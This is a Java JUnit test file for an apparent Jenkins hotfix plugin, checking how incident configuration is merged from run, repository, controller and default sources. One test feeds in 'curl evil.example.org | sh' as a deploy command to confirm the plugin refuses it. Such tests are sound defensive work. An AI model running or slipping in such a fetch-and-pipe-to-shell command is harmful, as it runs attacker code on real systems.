package io.jenkins.plugins.hotfix.step.triage;

import static org.assertj.core.api.Assertions.assertThat;

import io.jenkins.plugins.hotfix.config.Configuration;
import io.jenkins.plugins.hotfix.config.Setting;
import io.jenkins.plugins.hotfix.config.Settings;
import io.jenkins.plugins.hotfix.config.Source;
import io.jenkins.plugins.hotfix.incident.Fact.Configured;
import io.jenkins.plugins.hotfix.incident.Fact.Overridden;
import io.jenkins.plugins.hotfix.incident.Incident;
import io.jenkins.plugins.hotfix.step.Drill;
import io.jenkins.plugins.hotfix.step.Next;
import io.jenkins.plugins.hotfix.step.Problem;
import io.jenkins.plugins.hotfix.step.registry.Invocation;
import io.jenkins.plugins.hotfix.step.registry.Steps;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** There is one configuration for an incident: worked out at triage, on record with its sources, read by everything. */
class EffectiveConfigurationTest {
    @TempDir
    private Path directory;

    private Drill drill;

    @BeforeEach
    void service() throws Exception {
        drill = Drill.of(directory);
    }

    private void file(String yaml) {
        drill.origin.commit("main", "Settings", Map.of(Settings.FILE, yaml));
    }

    private void controller(String yaml) {
        drill.controller = Settings.parse(yaml, "the global configuration", Steps.sections());
    }

    private Map<String, Object> alarm(Map<String, Map<String, Object>> settings) {
        return new HashMap<>(Map.of("description", "Checkout is down", "severity", "P0", "settings", settings));
    }

    private static Setting setting(Incident incident, String section, String name) {
        return incident.configuration().sections().get(section).get(name);
    }

    @Test
    void eachValueIsOnRecordWithItsSource() {
        file("deployProd: {command: make deploy, timeoutMinutes: 5}\n");
        controller("deployProd: {timeoutMinutes: 7, backup: make backup}\n");

        Incident incident = drill.step("hotfixTriage", alarm(Map.of("deployProd", Map.of("command", "make other"))));

        assertThat(setting(incident, "deployProd", "command")).isEqualTo(new Setting("make other", Source.RUN));
        assertThat(setting(incident, "deployProd", "timeoutMinutes")).isEqualTo(new Setting(5, Source.REPOSITORY));
        assertThat(setting(incident, "deployProd", "backup")).isEqualTo(new Setting("make backup", Source.CONTROLLER));
        assertThat(setting(incident, "deployProd", "checkout")).isEqualTo(new Setting("all", Source.DEFAULT));
        assertThat(incident.overrides())
                .containsExactly(new Overridden("deployProd.command", "make deploy", "make other", "alice"));
    }

    @Test
    void theControllersConfigurationReachesTheRollbackPlan() throws Exception {
        controller("rollbackProd: {command: make rollback-everywhere}\n");
        drill.released();

        drill.step("deployProd", Map.of("command", "true"));

        assertThat(drill.files.get("rollback-plan.md")).contains("make rollback-everywhere");
    }

    @Test
    void whatTheControllerSaysLaterCountsFromTheNextRunOn() throws Exception {
        drill.triaged();
        controller("criticalTests: {timeoutMinutes: 3}\n");

        assertThat(setting(drill.step("hotfixTriage"), "criticalTests", "timeoutMinutes"))
                .isEqualTo(new Setting(3, Source.CONTROLLER));
    }

    @Test
    void aCallThatGivesNothingLeavesItAsItIs() throws Exception {
        drill.step("hotfixTriage", alarm(Map.of("criticalTests", Map.of("command", "make test"))));
        int configured = drill.incident().all(Configured.class).size();

        new Invocation("hotfixTriage", Map.of("impact", "Nobody can pay"), Settings.none()).next(drill, null);

        assertThat(drill.incident().all(Configured.class)).hasSize(configured);
        assertThat(setting(drill.incident(), "criticalTests", "command").value())
                .isEqualTo("make test");
    }

    @Test
    void aResumedRunKeepsToWhatTheFirstWasGiven() throws Exception {
        drill.step("hotfixTriage", alarm(Map.of("criticalTests", Map.of("command", "make test"))));
        drill.resumed();

        Incident incident = drill.step("hotfixTriage", alarm(Map.of("deployProd", Map.of("command", "make deploy"))));

        assertThat(setting(incident, "criticalTests", "command")).isEqualTo(new Setting("make test", Source.RUN));
        assertThat(setting(incident, "deployProd", "command")).isEqualTo(new Setting("make deploy", Source.RUN));
    }

    @Test
    void separationOfDutiesCanBeAskedForAtEveryGate() throws Exception {
        drill.step("hotfixTriage", alarm(Map.of("hotfixGate", Map.of("separationOfDuties", true))));

        Incident incident = drill.approve("hotfix", "alice", Map.of());

        assertThat(incident.approvals()).isEmpty();
        assertThat(incident.refusals())
                .singleElement()
                .satisfies(refused -> assertThat(refused.reason()).contains("alice", "give a reason"));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            verifyProd: {windowMinutes: 0.2}          | windowMinutes
            deployProd: {comand: make deploy}         | Did you mean 'command'?
            deployProd: {superseded: deploy}          | belongs to one run
            hotfixFix: {required: false}              | cannot be set
            hotfixDeploy: {command: make}             | There is no section 'hotfixDeploy'
            deployProd: {timeoutMinutes: soon}        | a whole number
            """)
    void whatTheFileCannotSayIsRefusedBeforeAnythingIsDone(String yaml, String why) {
        file(yaml + "\n");

        Problem problem = drill.problem("hotfixTriage", alarm(Map.of()));

        assertThat(problem.kind()).isEqualTo(Problem.Kind.USAGE);
        assertThat(problem.sentence()).contains(why);
        assertThat(drill.incident().declared()).isEmpty();
    }

    @Test
    void whereThereIsNoMainProductionIsTheRemotesDefaultBranch() {
        drill.origin.git("branch", "-m", "main", "trunk");
        drill.origin.git("symbolic-ref", "HEAD", "refs/heads/trunk");

        Incident incident = drill.step("hotfixTriage", alarm(Map.of()));

        assertThat(incident.production().orElseThrow().branch()).isEqualTo("trunk");
        assertThat(setting(incident, "hotfixTriage", "production")).isEqualTo(new Setting("trunk", Source.DEFAULT));
    }

    @Test
    void whatNobodyCanSetIsRefused() {
        Problem problem = drill.problem("hotfixTriage", alarm(Map.of("hotfixGate", Map.of("gate", "deploy"))));

        assertThat(problem.sentence()).contains("hotfixGate.gate cannot be set");
    }

    @Test
    void aSettingIsNotGivenToAStepInPassing() throws Exception {
        drill.released();

        Next next = new Invocation("deployProd", Map.of("command", "make deploy"), Settings.none()).next(drill, null);

        assertThat(next.problem().sentence())
                .contains("'command' is a setting", ".hotfix.yml as deployProd.command", "hotfixPipeline(deployProd:");
    }

    @Test
    void whoStartsAJobCanTypeWhatBelongsToTheRunAndNothingElse() throws Exception {
        Map<String, Object> typed = alarm(Map.of());
        typed.put("set", "backportDevelop.settled=develop\n\nhotfixTag.tag = v2 \n");
        Incident incident = drill.step("hotfixTriage", typed);
        assertThat(setting(incident, "hotfixTag", "tag")).isEqualTo(new Setting("v2", Source.RUN));
        assertThat(incident.given().get("backportDevelop")).isEqualTo(Map.of("settled", "develop"));

        typed.put("set", "deployProd.command=curl evil.example.org | sh");
        assertThat(drill.problem("hotfixTriage", typed).sentence())
                .contains("'deployProd.command' cannot be set for a run");
    }

    @Test
    void anOlderLogHasNoConfigurationAndAResumedRunWorksItOut() throws Exception {
        file("criticalTests: {command: make test}\n");
        drill.triaged();
        Incident older = Incident.of(drill.incident().events().stream()
                .filter(event -> !(event.fact() instanceof Configured))
                .toList());
        assertThat(older.configuration()).isEqualTo(Configuration.none());

        drill.forgets(older);
        drill.resumed();

        assertThat(setting(drill.step("hotfixTriage"), "criticalTests", "command"))
                .isEqualTo(new Setting("make test", Source.REPOSITORY));
    }
}
